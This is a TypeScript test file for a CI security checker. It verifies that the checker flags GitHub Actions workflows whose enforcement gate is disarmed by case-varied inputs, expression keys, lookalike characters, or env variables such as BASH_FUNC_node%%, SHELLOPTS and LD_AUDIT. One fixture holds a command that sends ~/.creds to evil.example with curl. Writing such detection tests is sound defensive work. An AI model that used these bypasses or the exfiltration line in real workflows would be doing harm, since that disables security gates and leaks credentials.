/**
 * Session 9: the gate's inputs as the runner reads them, and `env:` names that stop the gate's shell
 * from running it.
 *
 * - The runner reads a step's `with:` keys case-insensitively (actions/runner
 *   `PipelineTemplateConverter.ConvertToStepInputs`: `StringComparer.OrdinalIgnoreCase`), and the
 *   composite action's `${{ inputs.mode }}` finds `MODE`. GitHub's parser accepts `with:` written as
 *   one expression and keys that are expressions. Both faces read `with.mode` as written, so
 *   `with: { MODE: audit }`, `with: ${{ fromJSON(…) }}` and `with: { ${{ vars.K }}: audit }` left a
 *   gate in audit mode "armed": the check passed and the diff said "No access changes".
 * - The gate runs `bash … && node …` (`shell: bash`). Bash imports a function from an environment
 *   variable `BASH_FUNC_node%%` (so `node` is the workflow's function) and reads `SHELLOPTS`
 *   (`noexec`: nothing runs, exit 0) at start-up. Set in the workflow, job or gate `env:`, either
 *   makes the gate succeed without judging anything.
 */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import yaml from 'js-yaml';
import { diffSnapshots } from '../../shared/diff/diff.js';
import { snapshot } from '../../shared/diff/snapshot.js';
import { failsOnWidened } from '../../shared/diff/states.js';
import { GATE_INPUTS } from '../../shared/check/rules/missing-enforce.js';
import { findingsOf, wf, PINNED_GATE, GATED_RELEASE_MANIFEST } from '../support/repo.js';

const GATE = PINNED_GATE;
const job = (gateExtra: string, wfEnv = '') =>
  `on: push\n${wfEnv}jobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions: { contents: write }\n    steps:\n      - uses: ${GATE}\n${gateExtra}      - run: make release\n`;
const MANIFEST = GATED_RELEASE_MANIFEST;
const BASE = job('');
const faces = (text: string) => {
  const changes = diffSnapshots(snapshot([wf('release.yml', BASE)]), snapshot([wf('release.yml', text)]));
  return {
    check: findingsOf('missing-enforce', { 'release.yml': text }, MANIFEST).map((f) => f.subject),
    gate: snapshot([wf('release.yml', text)])
      .workflows.get('release.yml')!
      .jobs.get('release')!.gate,
    widened: changes.filter((c) => c.subject === 'actions/enforce gate' && c.effect === 'widened').length,
    fails: failsOnWidened(changes),
  };
};

describe("the gate's inputs as the runner reads them", () => {
  it.each([
    ['MODE in capitals', '        with: { MODE: audit }\n', 'mode'],
    ['Mode', '        with:\n          Mode: audit\n', 'mode'],
    ['with: as one expression', `        with: \${{ fromJSON('{"mode":"audit"}') }}\n`, 'with'],
    ['a key that is an expression', '        with:\n          ${{ vars.GATE_INPUT }}: audit\n', 'with'],
    [
      'an input actions/enforce does not declare (Cyrillic e)',
      '        with: { "mod\u0435": audit }\n',
      'with',
    ],
  ])('%s: the check reports it and the diff shows the gate disarmed', (_name, extra, subject) => {
    const f = faces(job(extra));
    expect(f.check).toEqual([subject]);
    expect(f.gate).not.toBe('first step, mode enforce');
    expect(f.widened).toBe(1);
    expect(f.fails).toBe(true);
  });

  it('Manifest-Ref in another case is where the gate reads the manifest (widened in the diff)', () => {
    const f = faces(job('        with: { Manifest-Ref: open-branch }\n'));
    expect(f.gate).toBe('first step, mode enforce; reads {"manifest-ref":"open-branch"}');
    expect(f.widened).toBe(1);
  });

  it('the documented inputs, in any case, leave it armed', () => {
    for (const extra of [
      '        with: { mode: enforce, token: "${{ github.token }}" }\n',
      '        with: { MODE: enforce, Token: "${{ github.token }}" }\n',
      // No value is the empty input, which the action reads as the default `enforce`.
      '        with: { mode: , manifest-ref: "" }\n',
    ]) {
      const f = faces(job(extra));
      expect(f.check).toEqual([]);
      expect(f.gate).toBe('first step, mode enforce');
      expect(f.fails).toBe(false);
    }
  });

  it("GATE_INPUTS are actions/enforce's inputs", () => {
    const action = yaml.load(
      readFileSync(new URL('../../actions/enforce/action.yml', import.meta.url), 'utf8'),
    ) as { inputs: Record<string, unknown> };
    expect([...GATE_INPUTS].sort()).toEqual(Object.keys(action.inputs).sort());
  });

  it('property: any ASCII case of `mode` with a value other than enforce disarms the gate in both faces', () => {
    const spelled = fc
      .array(fc.boolean(), { minLength: 4, maxLength: 4 })
      .map((up) => [...'mode'].map((c, i) => (up[i] ? c.toUpperCase() : c)).join(''));
    fc.assert(
      fc.property(spelled, fc.constantFrom('audit', 'Audit', '${{ vars.MODE }}', 'enforcе'), (key, value) => {
        const f = faces(job(`        with:\n          ${key}: "${value}"\n`));
        expect(f.check).toEqual(['mode']);
        expect(f.widened).toBe(1);
      }),
      { numRuns: 60 },
    );
  });
});

describe('env: that keeps bash from running the gate', () => {
  it.each([
    ['step BASH_FUNC_node%%', '        env: { "BASH_FUNC_node%%": "() { echo allowed; }" }\n', ''],
    ['workflow SHELLOPTS', '', 'env: { SHELLOPTS: noexec }\n'],
    ['step BASHOPTS', '        env: { BASHOPTS: extdebug }\n', ''],
    ['workflow LD_AUDIT', '', 'env: { LD_AUDIT: /tmp/x.so }\n'],
    ['step DYLD_INSERT_LIBRARIES', '        env: { DYLD_INSERT_LIBRARIES: /tmp/x.dylib }\n', ''],
  ])('%s: the check reports it and the diff shows the gate disarmed', (_name, stepEnv, wfEnv) => {
    const f = faces(job(stepEnv, wfEnv));
    expect(f.check).toEqual(['env']);
    expect(f.gate).toMatch(/^env: /);
    expect(f.widened).toBe(1);
    expect(f.fails).toBe(true);
  });
});

describe("actions/audit's exemption from 'runs after a failed gate'", () => {
  const AUDIT = 'stepwarden/stepwarden/actions/audit@0123456789abcdef0123456789abcdef01234567';
  const withAudit = (env: string) => `${BASE}      - uses: ${AUDIT}\n        if: always()\n${env}`;

  it('holds for the audit step as it is', () => {
    const f = faces(withAudit(''));
    expect(f.check).toEqual([]);
    expect(f.gate).toBe('first step, mode enforce');
  });

  it.each([
    [
      'BASH_FUNC_node%%',
      '        env: { "BASH_FUNC_node%%": "() { curl -d @$HOME/.creds evil.example; }" }\n',
    ],
    ['NODE_OPTIONS', '        env: { NODE_OPTIONS: "--require ./evil.js" }\n'],
  ])('not for one whose env: %s runs other code after the denial', (_n, env) => {
    const f = faces(withAudit(env));
    expect(f.check).toEqual(['runs-after-denial']);
    expect(f.gate).toMatch(/run(s)? after a failed gate/);
    expect(f.fails).toBe(true);
  });
});
